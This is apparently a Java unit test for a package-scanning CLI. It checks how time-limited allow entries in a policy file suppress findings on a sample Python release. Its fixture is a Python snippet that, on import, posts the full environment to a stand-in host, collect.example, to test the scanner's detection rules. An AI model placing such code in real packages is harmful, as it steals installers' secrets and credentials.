package dev.assay.cli.command;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.cli.Run;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Allow entries for findings on code, in scans and comparisons.
class AllowanceTest {
  private static final String THEFT =
      """
      import os, urllib.request
      urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
      """;

  private static final List<String> RULES =
      List.of(
          "environment-exfiltration", "import-time-network", "gained-theft", "gained-import-act");

  @TempDir private Path home;
  @TempDir private Path folder;

  @BeforeEach
  void writeReleases() throws IOException {
    write("acme-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n");
    write("acme-1.0/acme/__init__.py", "VERSION = '1.0'\n");
    write("acme-1.1/PKG-INFO", "Metadata-Version: 2.1\nName: acme\nVersion: 1.1\n");
    write("acme-1.1/acme/__init__.py", THEFT);
  }

  @Test
  void anEntryForPackageAndPathLetsScanAndUpgradePass() throws IOException {
    assertThat(run("scan", "acme-1.1").code()).isEqualTo(1);
    assertThat(run("diff", "acme-1.0", "acme-1.1").code()).isEqualTo(1);
    allow("package = 'acme'\npath = 'acme/*.py'", "2026-12-31");
    Run scan = run("scan", "--explain", "acme-1.1");
    assertThat(scan.out()).startsWith("admit").contains("allowed");
    assertThat(scan.code()).isZero();
    assertThat(run("scan", "--format", "json", "acme-1.1").out())
        .contains("allowed by red team until 2026-12-31 (assay.toml:1): an exercise");
    assertThat(run("diff", "acme-1.0", "acme-1.1").code()).isZero();
  }

  @Test
  void anEntryForAnotherPlaceLetsNothingPass() throws IOException {
    allow("package = 'acme'\npath = 'tests/**'", "2026-12-31");
    assertThat(run("scan", "acme-1.1").code()).isEqualTo(1);
    allow("package = 'acme'\nversion = '1.0'", "2026-12-31");
    assertThat(run("scan", "acme-1.1").code()).isEqualTo(1);
  }

  @Test
  void anEntryForTheBytesOfAFileEndsWithThem() throws Exception {
    write("tool.py", THEFT);
    allow("sha256 = '" + sha256(THEFT) + "'", "2026-12-31");
    assertThat(run("scan", "tool.py").code()).isZero();
    assertThat(run("scan", "acme-1.1").code()).isZero();
    write("tool.py", THEFT + "# one byte more\n");
    assertThat(run("scan", "tool.py").code()).isEqualTo(1);
  }

  @Test
  void anExpiredEntryNoLongerCountsAndIsToldWhereItWouldHave() throws IOException {
    allow("package = 'acme'", "2026-01-31");
    Run run = run("scan", "acme-1.1", "acme-1.0");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out())
        .contains("the allow entry for `environment-exfiltration` of `acme` expired")
        .contains("assay.toml:1 (expired-allowance)")
        .contains("2 judged: 1 denied, 0 held, 1 admitted");
  }

  @Test
  void aMistakeInAnEntryIsNamedWithFileAndLine() throws IOException {
    allow("package = 'acme'\npath = '../acme'", "2026-12-31");
    Run run = run("scan", "acme-1.1");
    assertThat(run.code()).isEqualTo(2);
    assertThat(run.err()).contains("assay.toml:7: `path` is a path in an artifact");
  }

  private void allow(String what, String expires) throws IOException {
    String common =
        "[[allow]]\nrule = '%s'\nreason = 'an exercise'\nowner = 'red team'\nexpires = %s\n";
    StringBuilder policy = new StringBuilder();
    for (String rule : RULES) {
      policy.append(common.formatted(rule, expires)).append(what).append('\n');
    }
    write("assay.toml", policy.toString());
  }

  private Run run(String... arguments) {
    if (!Files.exists(folder.resolve("assay.toml"))) {
      return Run.in(folder, home, arguments);
    }
    String[] all = new String[arguments.length + 2];
    all[0] = arguments[0];
    all[1] = "--policy";
    all[2] = "assay.toml";
    System.arraycopy(arguments, 1, all, 3, arguments.length - 1);
    return Run.in(folder, home, all);
  }

  private static String sha256(String text) throws NoSuchAlgorithmException {
    return HexFormat.of()
        .formatHex(MessageDigest.getInstance("SHA-256").digest(text.getBytes(UTF_8)));
  }

  private void write(String name, String text) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }
}
